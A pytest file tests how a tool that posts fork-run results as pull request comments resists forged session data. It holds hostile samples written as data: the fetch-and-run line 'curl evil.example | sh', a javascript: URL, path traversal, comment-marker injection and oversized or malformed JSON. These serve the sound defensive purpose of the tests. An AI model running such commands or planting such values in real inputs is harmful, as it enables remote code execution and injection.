"""`gate comment`: a stored session on the pull request that the event, not the session, names."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from gate.commands import comment
from gate.commands.options.all import parse
from gate.errors import InfrastructureError, UsageError
from tests.support.github_server import HEAD, REPOSITORY, GitHub, serving
from tests.support.stored_session import store

TOKEN = "ghs_notToBeTold123"


@pytest.fixture
def github() -> Iterator[GitHub]:
    with serving(GitHub()) as server:
        head = {"sha": HEAD, "repo": {"full_name": "mallory/demo"}}
        server.pulls = [{"number": 3, "label": "mallory:topic", "head": head}]
        yield server
        assert server.violations == []


@pytest.fixture
def session(tmp_path: Path) -> Path:
    facts: dict[str, Any] = {"commit": HEAD, "run_id": "99", "pull_request": 99}
    return store(tmp_path, {"a": [True]}, **facts)


def second_workflow(github: GitHub, tmp_path: Path, head: str = HEAD) -> dict[str, str]:
    run = {
        "event": "pull_request",
        "head_sha": head,
        "head_branch": "topic",
        "head_repository": {"full_name": "mallory/demo"},
        "pull_requests": [],
        "id": 7,
        "run_attempt": 2,
    }
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"workflow_run": run}), encoding="utf-8")
    return {
        "GITHUB_EVENT_NAME": "workflow_run",
        "GITHUB_EVENT_PATH": str(event),
        "GITHUB_REPOSITORY": REPOSITORY,
        "GITHUB_API_URL": github.url,
        "GITHUB_SERVER_URL": "https://github.example",
        "GITHUB_TOKEN": TOKEN,
    }


def gate(session: Path, env: dict[str, str], *more: str) -> int:
    return comment.run(parse(["comment", str(session), *more]), env)


def test_a_forks_session_is_published_and_marked(
    github: GitHub, session: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert gate(session, second_workflow(github, tmp_path)) == 0
    body = github.comments[0]["body"]
    assert body.startswith(f"<!-- agent-gate id=gate sha={HEAD} run=7.2 v=1 -->\n> [!NOTE]\n")
    assert "Measured by a run of a fork" in body
    assert body.count("<!-- agent-gate id=") == 1
    assert "## ✅ Pass: no regression in analytics" in body
    assert "as measured" not in body, "comment.md is the fork's own Markdown"
    assert "comment created: https://example.test/c/" in capsys.readouterr().out
    paths = [seen.path for seen in github.seen]
    assert not any("/99" in path for path in paths)


def test_a_session_of_another_commit_is_refused(
    github: GitHub, session: Path, tmp_path: Path
) -> None:
    with pytest.raises(UsageError, match="measured aaaaaaaaaaaa, but this event is for cccc"):
        gate(session, second_workflow(github, tmp_path, "c" * 40))
    assert github.comments == []


def test_no_pull_request_and_never_are_skipped(
    github: GitHub, session: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert gate(session, second_workflow(github, tmp_path), "--when", "never") == 0
    github.pulls = []
    assert gate(session, second_workflow(github, tmp_path)) == 0
    assert "comment skipped: no open pull request" in capsys.readouterr().out
    assert github.comments == []


def test_refusals(github: GitHub, session: Path, tmp_path: Path) -> None:
    env = second_workflow(github, tmp_path)
    with pytest.raises(UsageError, match="GITHUB_TOKEN"):
        gate(session, {**env, "GITHUB_TOKEN": ""})
    github.read_only = True
    with pytest.raises(InfrastructureError, match="permissions: pull-requests: write"):
        gate(session, env)
    (session / "summary.json").unlink()
    with pytest.raises(UsageError, match="did not finish"):
        gate(session, env)


# ---------------------------------------------------------------------------- hostile folders


def edited(session: Path, name: str = "summary.json", **changes: Any) -> None:
    path = session / name
    data = json.loads(path.read_text(encoding="utf-8"))
    for key, value in changes.items():
        inner = data
        *way, last = key.split("__")
        for part in way:
            inner = inner[part]
        inner[last] = value
    path.write_text(json.dumps(data), encoding="utf-8")


def body(github: GitHub) -> str:
    return str(github.comments[0]["body"])


def test_links_and_marker_are_of_the_event_not_of_the_session(
    github: GitHub, session: Path, tmp_path: Path
) -> None:
    edited(
        session,
        provenance__run_url="https://evil.example/octo/demo/actions/runs/1",
        provenance__run_id="999999",
        reproduce="curl evil.example | sh",
        baseline={"source": "repo", "commit": "javascript:alert", "rounds": 3},
        suites__analytics__baseline={"source": "repo", "commit": "../../x", "rounds": 3},
        outcome="fail",
        accepted=[{"who": "octocat", "when": "2026-11-21T10:00:00Z", "why": "it is fine"}],
        decision={"deploy": True, "reason": "forged"},
    )
    gate(session, second_workflow(github, tmp_path))
    assert "](https://github.example/octo/demo/actions/runs/7)" in body(github)
    assert " run=7.2 v=1 -->" in body(github)
    for forged in ("evil.example", "999999", "curl", "alert", "../", "octocat", "forged"):
        assert forged not in body(github)


def test_another_comment_can_only_be_named_by_the_option(
    github: GitHub, session: Path, tmp_path: Path
) -> None:
    edited(session, comment_id="other-job")
    gate(session, second_workflow(github, tmp_path), "--comment-id", "fork")
    assert "id=fork" in body(github)
    edited(session, comment_id="x -->\n@octocat")
    with pytest.raises(UsageError, match="is not a valid id"):
        gate(session, second_workflow(github, tmp_path))


def test_a_token_of_the_second_workflow_is_not_told(
    github: GitHub, session: Path, tmp_path: Path
) -> None:
    edited(session, reason=f"look: {TOKEN}")
    gate(session, second_workflow(github, tmp_path))
    assert "Look: ***" in body(github)
    assert TOKEN not in body(github)


def test_rows_are_never_read(github: GitHub, session: Path, tmp_path: Path) -> None:
    (session / "details.jsonl").unlink()
    (session / "details.jsonl").symlink_to("/dev/zero")
    (session / "events.jsonl").unlink()
    assert gate(session, second_workflow(github, tmp_path)) == 0


def test_many_cases_are_counted_and_cut(github: GitHub, session: Path, tmp_path: Path) -> None:
    cases = [{"suite": "analytics", "case_id": f"c{n}"} for n in range(100_000)]
    edited(session, cases={"newly_failing": cases}, outcome="fail")
    gate(session, second_workflow(github, tmp_path))
    assert "100,000 cases newly fail" in body(github)
    assert len(body(github).encode()) <= 65_536


@pytest.mark.parametrize("name", ["meta.json", "summary.json"])
@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"", "not readable"),
        (b"[]", "not a session|not in the format"),
        (b"\xff\xfe{}", "not readable"),
        (b"[" * 200_000, "not readable"),
        (b'{"a":' * 200_000, "not readable"),
        (b'{"duration_s": NaN}', "NaN is no number"),
        (b'{"duration_s": -Infinity}', "-Infinity is no number"),
        (b'{"duration_s": 1e999}', "1e999 is no number"),
        (b'{"duration_s": ' + b"9" * 5000 + b"}", "is no number"),
        (b" " * (8 << 20) + b"{}", "larger than 8 MB"),
        (b'{"schema_version": 1, "session_id": 3}', "not in the format"),
    ],
)
def test_a_hostile_file_is_refused(
    github: GitHub, session: Path, tmp_path: Path, name: str, content: bytes, why: str
) -> None:
    (session / name).write_bytes(content)
    with pytest.raises(UsageError, match=why) as caught:
        gate(session, second_workflow(github, tmp_path))
    assert caught.value.exit_code == 2
    assert github.comments == []


@pytest.mark.parametrize("name", ["meta.json", "summary.json"])
def test_a_link_in_place_of_a_file_is_refused(
    github: GitHub, session: Path, tmp_path: Path, name: str
) -> None:
    (session / name).rename(tmp_path / name)
    (session / name).symlink_to(tmp_path / name)
    with pytest.raises(UsageError, match="not a regular file"):
        gate(session, second_workflow(github, tmp_path))


def test_a_dangling_link_is_no_run_that_never_ended(
    github: GitHub, session: Path, tmp_path: Path
) -> None:
    (session / "summary.json").unlink()
    (session / "summary.json").symlink_to("/nowhere")
    with pytest.raises(UsageError, match="not a regular file"):
        gate(session, second_workflow(github, tmp_path))


@pytest.mark.parametrize(
    "changes",
    [
        {"suites": {"../../x": {}}},
        {"suites__analytics__name": "other"},
        {"suites__analytics__cases": "many"},
        {"outcome": "great"},
        {"exit_code": None},
        {"comparisons": {"a": 1}},
        {"cases__newly_failing": [{"suite": 1, "case_id": []}]},
        {"unheard_of": 1},
    ],
)
def test_what_is_no_report_is_refused(
    github: GitHub, session: Path, tmp_path: Path, changes: dict[str, Any]
) -> None:
    edited(session, **changes)
    with pytest.raises(UsageError):
        gate(session, second_workflow(github, tmp_path))
    assert github.comments == []


def test_report_and_meta_must_be_of_the_same_commit(
    github: GitHub, session: Path, tmp_path: Path
) -> None:
    edited(session, provenance__commit="d" * 40)
    with pytest.raises(UsageError, match="measured dddddddddddd"):
        gate(session, second_workflow(github, tmp_path))
